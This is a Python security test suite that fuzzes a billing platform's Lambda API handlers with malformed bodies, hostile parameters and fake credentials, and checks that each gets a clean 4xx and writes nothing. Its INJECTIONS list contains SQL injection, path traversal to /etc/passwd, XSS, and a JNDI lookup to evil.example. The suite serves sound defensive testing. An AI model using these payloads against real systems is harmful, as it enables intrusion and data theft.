"""Hostile input at every handler directly (real API Gateway proxy events, real handlers, moto): malformed
JSON, wrong top-level and field types, huge numbers, negative / NaN / Infinity quantities, unicode and
injection strings in identifiers, hostile path and query parameters. Each must get a 4xx with a clear
JSON message, and nothing may be written (every table and the usage queue are compared before and after
each example).

The valid request each mutation starts from is derived from the route's own OpenAPI schema, so every
route of `resources.routes()` is covered, including routes added later."""

from __future__ import annotations

import json
import math
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from billing_platform import resources
from billing_platform.resources import Auth
from tests.factories import stripe as stripe_factory
from tests.factories.apigw import api_event
from tests.factories.handlers import load_handler
from tests.factories.lambda_context import LambdaContext
from tests.security.harness import (
    ROUTE_IDS,
    TENANT_A,
    RequestContext,
    operation_of,
    plan_request,
    route_by_id,
    take_snapshot,
)

MAX_EXAMPLES = 25
WEBHOOK_SECRET = "whsec_hostile_suite_0123456789"
BODY_ROUTES = [rid for rid in ROUTE_IDS if route_by_id(rid)[0].method in ("POST", "PATCH", "PUT")]
PARAM_ROUTES = [rid for rid in ROUTE_IDS if "{" in rid or route_by_id(rid)[0].method in ("GET", "DELETE")]

# Identifiers: platform ids are [A-Za-z0-9_-.:]; each of these breaks that, whatever the field.
INJECTIONS = [
    "' OR '1'='1",
    '"; DROP TABLE billing; --',
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "t\x00nul",
    "\uff54\uff45\uff4e\uff41\uff4e\uff54",  # fullwidth "tenant"
    "😀",
    "\u202etxet",
    "a" * 5000,
    " ",
    "",
    "AUDIT#t_sec_alpha",
    "TENANT#x#APIKEYS",
]
IDENTIFIER_FIELDS = {
    "tenant_id",
    "resource_type",
    "resource",
    "price_id",
    "record_id",
    "customer_id",
    "subscription_id",
    "key_id",
}
QUANTITY_FIELDS = {"quantity", "amount", "value", "tokens", "size_mb", "trial_days", "limit"}
HOSTILE_NUMBERS: list[Any] = [
    -1,
    -0.5,
    -(10**30),
    10**400,
    float("nan"),
    float("inf"),
    float("-inf"),
    "NaN",
    "Infinity",
    "-1",
    "1e999",
    "0x10",
    "",
    [],
    {},
]
ESSENTIAL_RECORD_FIELDS = {"tenant_id", "resource_type", "quantity"}
WRONG_TYPES: list[Any] = [{}, [], {"$gt": ""}, [1, 2]]


def _leaf_paths(value: Any, prefix: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    if isinstance(value, dict):
        for key, child in value.items():
            yield from _leaf_paths(child, (*prefix, key))
    elif isinstance(value, list) and value:
        yield from _leaf_paths(value[0], (*prefix, 0))
    else:
        yield prefix, value


def _set(body: Any, path: tuple[Any, ...], new: Any) -> Any:
    copy = json.loads(json.dumps(body))
    target = copy
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = new
    return copy


def _drop(body: Any, path: tuple[Any, ...]) -> Any:
    copy = json.loads(json.dumps(body))
    target = copy
    for step in path[:-1]:
        target = target[step]
    del target[path[-1]]
    return copy


def _dumps(body: Any) -> str:
    # Python's json writes NaN / Infinity / huge ints as given: exactly what a hostile client sends.
    return json.dumps(body, allow_nan=True)


def _hostile_bodies(template: Any, required: set[str]) -> st.SearchStrategy[str]:
    """Raw request bodies that no valid handler may accept."""
    malformed = st.one_of(
        st.sampled_from(["{", "{'a': 1}", '{"a": }', "[1,", "nul", '{"tenant_id": "x",}', "\x00", "{}}", "\ufeff{"]),
        st.text(max_size=40).filter(_not_json),
        st.just(_dumps(template)[:-1]) if template is not None else st.just("{"),
    )
    wrong_top_level = st.sampled_from(["[]", "null", "1", '"x"', "true", "[{}]", "1e999", "NaN"])
    strategies = [malformed, wrong_top_level]
    leaves = [(path, value) for path, value in _leaf_paths(template) if path]
    if leaves:
        strategies.append(st.sampled_from(leaves).flatmap(lambda leaf: _mutated(template, leaf, required)))
    return st.one_of(strategies)


def _mutated(template: Any, leaf: tuple[tuple[Any, ...], Any], required: set[str]) -> st.SearchStrategy[str]:
    path, value = leaf
    name = str(path[-1])
    options: list[Any] = list(WRONG_TYPES)
    if name in IDENTIFIER_FIELDS:
        options += INJECTIONS
    if name in QUANTITY_FIELDS or (isinstance(value, int | float) and not isinstance(value, bool)):
        options += HOSTILE_NUMBERS
    mutations = [st.sampled_from(options).map(lambda new: _dumps(_set(template, path, new)))]
    # Dropping a field is hostile only where the field is required: top-level fields the schema marks
    # required, and the essentials of a free-form record.
    if (len(path) == 1 and name in required) or (len(path) > 1 and name in ESSENTIAL_RECORD_FIELDS):
        mutations.append(st.just(_dumps(_drop(template, path))))
    return st.one_of(mutations)


def _not_json(text: str) -> bool:
    try:
        json.loads(text)
    except ValueError:
        return True
    return False


# ---------------------------------------------------------------------------------------------- fixture


@pytest.fixture
def hostile_env(moto_aws: dict[str, str], env: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
    import boto3

    from billing_platform.providers.factory import set_billing_provider

    env.setenv("STRIPE_WEBHOOK_SECRET", WEBHOOK_SECRET)
    env.setenv("STRIPE_SECRET_KEY", "sk_test_hostile_suite")
    set_billing_provider(None)
    ddb = boto3.client("dynamodb", region_name="us-east-1")
    sqs = boto3.client("sqs", region_name="us-east-1")
    tables = [moto_aws[spec.env_var] for spec in resources.TABLES]
    queue = moto_aws.get(resources.USAGE_QUEUE.env_var)
    yield {"snapshot": lambda: take_snapshot(ddb, tables, sqs, queue)}
    set_billing_provider(None)


def _event_for(
    route: resources.RouteSpec, target: str, raw_body: str | None, headers: dict[str, str] | None = None
) -> dict[str, Any]:
    path, _, query = target.partition("?")
    event = api_event(
        route.method,
        path,
        raw_body=raw_body,
        headers=headers,
        query=query or None,
        tenant_id=TENANT_A if route.auth is Auth.TENANT else None,
        operator=route.auth is Auth.OPERATOR,
    )
    # api_event decodes path parameters from the matched path; API Gateway hands them over decoded.
    return event


def _assert_refused_cleanly(response: dict[str, Any], what: str) -> None:
    status = response.get("statusCode")
    body_text = response.get("body") or ""
    assert isinstance(status, int), f"{what}: no status"
    assert 400 <= status < 500, f"{what}: answered {status} {body_text[:300]!r}"
    # Input the API refuses is 422, one status for all validation; 400 is only Stripe's (a webhook whose
    # signature does not verify, a request Stripe refused), never the platform's own validation.
    assert status != 400 or body_text.find('"invalid_signature"') >= 0 or "provider_" in body_text, (
        f"{what}: input validation answered 400 {body_text[:300]!r}"
    )
    try:
        body = json.loads(body_text)
    except ValueError:
        raise AssertionError(f"{what}: {status} without a JSON body: {body_text[:200]!r}") from None
    assert isinstance(body, dict), f"{what}: error body is not an object: {body_text[:200]!r}"
    message = body.get("message")
    assert isinstance(message, str), f"{what}: no message: {body_text[:200]!r}"
    assert message.strip(), f"{what}: empty message: {body_text[:200]!r}"
    assert "Traceback" not in body_text, f"{what}: leaks a traceback"
    assert 'File "/' not in body_text, f"{what}: leaks a traceback"
    assert len(body_text) < 20_000, f"{what}: error body of {len(body_text)} bytes"


def _invoke(module: Any, event: dict[str, Any], what: str) -> dict[str, Any]:
    try:
        response = module.handler(event, LambdaContext())
    except Exception as exc:  # API Gateway would answer 502
        raise AssertionError(f"{what}: the handler raised {type(exc).__name__}: {str(exc)[:300]}") from exc
    assert isinstance(response, dict), f"{what}: not a proxy response: {response!r}"
    return response


# ---------------------------------------------------------------------------------------------- bodies


@pytest.mark.parametrize("rid", BODY_ROUTES)
def test_hostile_bodies_get_a_clear_4xx_and_write_nothing(hostile_env: dict[str, Any], rid: str) -> None:
    route, fn = route_by_id(rid)
    module = load_handler(fn.name)
    openapi = json.loads(module.app.get_openapi_json_schema()) if hasattr(module, "app") else {}
    planned = plan_request(route, openapi, RequestContext(path_tenant=TENANT_A, body_tenant=TENANT_A))
    op = operation_of(openapi, route) or {}
    schema = ((op.get("requestBody") or {}).get("content") or {}).get("application/json", {}).get("schema", {})
    components = openapi.get("components", {}).get("schemas", {})
    resolved = components.get(schema.get("$ref", "").rsplit("/", 1)[-1], schema)
    required = set(resolved.get("required", []))
    webhook = route.path == "/v1/webhooks/stripe"
    template = (
        {"id": "evt_hostile", "type": "customer.subscription.updated", "data": {"object": {}}}
        if webhook
        else planned.body
    )

    @settings(
        max_examples=MAX_EXAMPLES,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(raw=_hostile_bodies(template, required))
    def check(raw: str) -> None:
        headers = None
        if webhook:
            # Signed with the right secret: the handler itself must cope with what is inside.
            headers = {"Stripe-Signature": stripe_factory.sign(raw, secret=WEBHOOK_SECRET)}
        before = hostile_env["snapshot"]()
        response = _invoke(module, _event_for(route, planned.target, raw, headers), f"{rid} body {raw[:120]!r}")
        _assert_refused_cleanly(response, f"{rid} body {raw[:120]!r}")
        changes = before.diff(hostile_env["snapshot"]())
        assert not changes, f"{rid} body {raw[:120]!r} wrote: {changes[:3]}"

    check()


@pytest.mark.parametrize("rid", [rid for rid in BODY_ROUTES if "webhooks" not in rid])
def test_falsy_values_of_the_wrong_type_are_refused_not_replaced(hostile_env: dict[str, Any], rid: str) -> None:
    """A deterministic sweep the random examples may miss: `{}`, `[]`, `""`, `0` and `false` where an id
    belongs, `{}` / `[]` anywhere. Code that writes `value or default` silently replaces these with a
    default (another tenant id, a generated record id) instead of refusing them."""
    route, fn = route_by_id(rid)
    module = load_handler(fn.name)
    openapi = json.loads(module.app.get_openapi_json_schema()) if hasattr(module, "app") else {}
    planned = plan_request(route, openapi, RequestContext(path_tenant=TENANT_A, body_tenant=TENANT_A))
    failures: list[str] = []
    for path, _value in _leaf_paths(planned.body):
        if not path:
            continue
        values: list[Any] = [{}, []]
        if str(path[-1]) in IDENTIFIER_FIELDS:
            values += ["", 0, False]
        for value in values:
            raw = _dumps(_set(planned.body, path, value))
            before = hostile_env["snapshot"]()
            response = _invoke(module, _event_for(route, planned.target, raw), f"{rid} {raw[:100]!r}")
            changes = before.diff(hostile_env["snapshot"]())
            status = response.get("statusCode")
            if not (isinstance(status, int) and 400 <= status < 500) or changes:
                where = ".".join(map(str, path))
                failures.append(f"{where}={value!r}: {status} {str(response.get('body'))[:160]} writes={len(changes)}")
    assert not failures, f"{rid} accepted wrong-typed values:\n" + "\n".join(failures)


# ---------------------------------------------------------------------------------------------- parameters


def _hostile_targets(route: resources.RouteSpec, openapi: dict[str, Any]) -> st.SearchStrategy[str]:
    params = [p for p in route.path.split("/") if p.startswith("{")]
    base_values = {
        "tenant_id": TENANT_A,
        "customer_id": "cus_unknown",
        "subscription_id": "sub_unknown",
        "key_id": "key_0000000000000000",
    }
    strategies: list[st.SearchStrategy[str]] = []

    def path_with(param: str | None, value: str) -> str:
        path = route.path
        for p in params:
            name = p.strip("{}")
            path = path.replace(p, quote(value if name == param else base_values.get(name, "x1"), safe=""))
        return path

    for p in params:
        name = p.strip("{}")
        hostile = [v for v in INJECTIONS if v.strip()] + [TENANT_A + "/../t_sec_bravo"]
        if name == "tenant_id" and route.auth is Auth.TENANT:
            hostile.append("t_sec_bravo")  # a valid id, but not the caller's: 403
        strategies.append(st.sampled_from(hostile).map(lambda v, n=name: path_with(n, v)))
    op = operation_of(openapi, route) or {}
    for parameter in op.get("parameters", []):
        if parameter.get("in") != "query":
            continue
        schema = parameter.get("schema", {})
        options = [s for s in schema.get("anyOf", [schema]) if s.get("type") != "null"]
        kind = options[0].get("type") if options else None
        constrained = options and any(
            k in options[0] for k in ("pattern", "enum", "format", "maxLength", "minimum", "maximum")
        )
        if kind in ("integer", "number"):
            values = ["-1", "NaN", "Infinity", "1e999", "abc", str(10**30), "1.5", "0x10"]
        elif kind == "string" and constrained:
            values = [v for v in INJECTIONS if v] + ["x" * 5000]
        else:
            continue  # free-form strings may legitimately accept anything
        strategies.append(
            st.sampled_from(values).map(lambda v, n=parameter["name"]: path_with(None, "") + "?" + urlencode({n: v}))
        )
    return st.one_of(strategies) if strategies else st.nothing()


@pytest.mark.parametrize("rid", PARAM_ROUTES)
def test_hostile_path_and_query_parameters_get_a_clear_4xx_and_write_nothing(
    hostile_env: dict[str, Any], rid: str
) -> None:
    route, fn = route_by_id(rid)
    module = load_handler(fn.name)
    openapi = json.loads(module.app.get_openapi_json_schema()) if hasattr(module, "app") else {}
    targets = _hostile_targets(route, openapi)
    if targets.is_empty:
        pytest.skip(f"{rid} has no path parameter or constrained query parameter")
    planned = plan_request(route, openapi, RequestContext(path_tenant=TENANT_A, body_tenant=TENANT_A))

    @settings(
        max_examples=MAX_EXAMPLES,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(target=targets)
    def check(target: str) -> None:
        body = _dumps(planned.body) if planned.body is not None else None
        before = hostile_env["snapshot"]()
        response = _invoke(module, _event_for(route, target, body), f"{rid} at {target[:160]!r}")
        _assert_refused_cleanly(response, f"{rid} at {target[:160]!r}")
        changes = before.diff(hostile_env["snapshot"]())
        assert not changes, f"{rid} at {target[:160]!r} wrote: {changes[:3]}"

    check()


def test_non_finite_numbers_round_trip_as_python_sees_them() -> None:
    # Guard for the strategies above: these must reach the handler as non-standard JSON tokens.
    assert _dumps({"q": float("nan")}) == '{"q": NaN}'
    assert math.isinf(json.loads(_dumps({"q": float("inf")}))["q"])
    assert json.loads(_dumps({"q": 10**400}))["q"] == 10**400


# ---------------------------------------------------------------------------------------------- authorizer


_KEY_SHAPED = st.builds(
    lambda env, ident, tail: f"bk_{env}_{ident}_{tail}",
    st.sampled_from(["live", "test", "prod", ""]),
    st.text("0123456789abcdef", min_size=15, max_size=17),
    st.text("ABCabc0123456789_-=+/.", min_size=40, max_size=46),
)


@given(
    header=st.one_of(
        st.text(max_size=300),
        st.text(max_size=40).map(lambda t: f"Bearer {t}"),
        _KEY_SHAPED.map(lambda k: f"Bearer {k}"),
        _KEY_SHAPED.map(lambda k: f"bearer   {k}  "),
        st.just("Bearer " + "A" * 100_000),
        st.sampled_from(INJECTIONS).map(lambda t: f"Bearer {t}"),
    )
)
@settings(
    max_examples=60,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
def test_authorizer_answers_unauthorized_to_any_hostile_credential(hostile_env: dict[str, Any], header: str) -> None:
    """Anything but a live key is exactly `Unauthorized` (API Gateway's 401), never another error (a 500),
    and the authorizer writes nothing."""
    from tests.factories.authorizer import authorizer_event

    module = load_handler("authorizer")
    before = hostile_env["snapshot"]()
    with pytest.raises(Exception, match=r"^Unauthorized$"):
        module.handler(authorizer_event("POST", "/v1/usage", authorization=header), LambdaContext())
    assert not before.diff(hostile_env["snapshot"]())
